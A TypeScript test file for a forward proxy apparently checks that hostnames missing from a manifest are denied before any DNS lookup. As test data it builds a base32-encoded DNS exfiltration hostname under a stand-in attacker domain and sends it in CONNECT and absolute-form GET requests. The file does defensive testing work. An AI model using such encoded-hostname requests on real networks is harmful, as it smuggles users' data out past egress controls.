import t from 'tap';
import { apiGrant, denyReasons, forwardHarness, httpManifest, httpRequest } from '../helpers/forward.ts';

// C11: the manifest check comes strictly before any lookup, so a name carrying data to an
// attacker's DNS server is never resolved, through CONNECT or absolute-form.

t.test('denied names are never resolved', async (t) => {
  const h = await forwardHarness(t, httpManifest([apiGrant({ id: 'x', path: '/v1/x' })]));
  const exfil = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.exfil.attacker.test';
  const c = await h.raw(`CONNECT ${exfil}:443 HTTP/1.1\r\nHost: ${exfil}:443\r\n\r\n`);
  t.same(c.statuses, [403]);
  t.same(denyReasons(c.text), ['not_in_manifest']);
  const a = await h.raw(httpRequest('GET', `http://${exfil}/x`, { host: exfil }));
  t.same(denyReasons(a.text), ['not_in_manifest']);
  const p = await h.raw(httpRequest('GET', `http://${exfil}:8080/x`, { host: `${exfil}:8080` }));
  t.same(denyReasons(p.text), ['not_in_manifest']);
  h.nothingReached(t);
});
